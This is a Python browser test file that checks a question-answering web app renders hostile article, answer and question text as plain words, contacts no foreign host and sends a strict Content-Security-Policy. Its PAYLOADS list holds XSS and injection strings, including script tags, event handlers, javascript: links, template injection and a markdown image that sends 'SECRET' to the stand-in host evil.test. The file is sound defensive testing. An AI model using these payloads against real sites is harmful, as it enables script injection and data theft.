"""UI-01, UI-02, UI-03, UI-07: nothing an article, a model or a question says is markup."""

from __future__ import annotations

import http.client
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from index.types import Article
from tests.browser.conftest import Watched, ask, page_app
from tests.browser.scripted import Say, ScriptedAnswerer, ScriptedCollection

pytestmark = pytest.mark.browser
Visit = Callable[..., Watched]

EVIL = "http://evil.test"
PAYLOADS = (
    "<script>window.pwned=1</script>",
    f"<img src={EVIL}/a.png onerror=window.pwned=1>",
    f"![x]({EVIL}/b.png?d=SECRET)",
    f"![x][ref]\n\n[ref]: {EVIL}/c.png",
    f"[click]({EVIL}/d) <{EVIL}/e> {EVIL}/f",
    "[click](javascript:window.pwned=1)",
    f"<form action={EVIL}><input name=password><button>Log in</button></form>",
    f"<div style='position:fixed;inset:0;background:url({EVIL}/g.png)'>overlay</div>",
    f"<iframe src={EVIL}></iframe><video src={EVIL}/h.mp4 autoplay></video>",
    f"<base href={EVIL}><link rel=stylesheet href={EVIL}/i.css><style>*{{color:red}}</style>",
    f"&lt;img src={EVIL}/j.png&gt; &#60;script&#62;window.pwned=1&#60;/script&#62;",
    f"<img srcset='{EVIL}/k.png 1x' src=//evil.test/l.png>",
    "<img src='data:image/svg+xml,<svg onload=window.pwned=1>'>",
    "<svg onload=window.pwned=1><a href=javascript:window.pwned=1>x</a></svg>",
    "${window.pwned=1} {{constructor.constructor('window.pwned=1')()}} $$\\href{javascript:1}{x}$$",
    "</section></article></div><details open ontoggle=window.pwned=1>",
    '"><button name="ask" value="pwned" autofocus onfocus=window.pwned=1>',
)
HOSTILE = "\n\n".join(PAYLOADS)
QUESTION = f"What? {HOSTILE}"


def hostile_answerer() -> ScriptedAnswerer:
    """Every field a stranger could fill, filled with every payload."""
    article = Article(
        id=f"evil/{PAYLOADS[0]}",
        title=" ".join(PAYLOADS),
        publisher=" ".join(PAYLOADS[:3]),
        author=PAYLOADS[1],
        url="javascript:window.pwned=1",
        path=PAYLOADS[1],
        date="2024-01-01",
        date_origin="stated",
        text=f"{HOSTILE}\n\nplain words\n\n{HOSTILE}",
    )
    said = (
        Say(HOSTILE, (("evil", HOSTILE),), "weak"),
        Say("plain words", (("evil", "plain words"),)),
    )
    return ScriptedAnswerer({QUESTION: said}, collection=ScriptedCollection([article]))


def test_hostile_words_stay_words(visit: Visit, serve: Callable[..., str], tmp_path: Path) -> None:
    watched = visit(serve(page_app(hostile_answerer(), tmp_path)))
    page = watched.page
    ask(page, QUESTION)
    page.locator(".fn-thread .fn-mark").first.hover()
    page.locator(".fn-thread .fn-mark").first.click()
    page.wait_for_selector("#fn-quote")
    page.click("role=tab[name=Collection]")
    page.locator(".fn-list li button").first.click()
    page.wait_for_selector("#fn-reading .fn-whole h2")
    assert page.evaluate("window.pwned") is None
    assert watched.foreign == []
    inside = "#fn-page :is(img, video, iframe, form, base, link, style, script, object, embed)"
    assert page.locator(inside).count() == 0
    hrefs = page.eval_on_selector_all(
        "#fn-page a", "links => links.map(a => a.getAttribute('href'))"
    )
    assert [href for href in hrefs if not href.startswith(("#fn-", "/articles/"))] == []
    for payload in PAYLOADS:
        assert payload.split("\n")[0] in page.locator("#fn-reading .fn-article").text_content()


def test_loading_the_page_asks_no_other_host(visit: Visit, address: str) -> None:
    watched = visit(address)
    watched.page.wait_for_selector(".fn-examples")
    watched.page.click("role=tab[name=Collection]")
    watched.page.wait_for_selector(".fn-list li")
    assert watched.foreign == []
    assert watched.errors == []


def test_the_policy_goes_with_every_response(address: str) -> None:
    for path in ("/", "/config", "/nothing"):
        policy = headers_of(address, path)["content-security-policy"]
        assert "default-src 'self'" in policy
        assert "unsafe-eval" not in policy
        assert "frame-ancestors 'self'" in policy


def headers_of(address: str, path: str) -> dict[str, str]:
    connection = http.client.HTTPConnection(urlsplit(address).netloc)
    connection.request("GET", path)
    return {name.lower(): value for name, value in connection.getresponse().getheaders()}
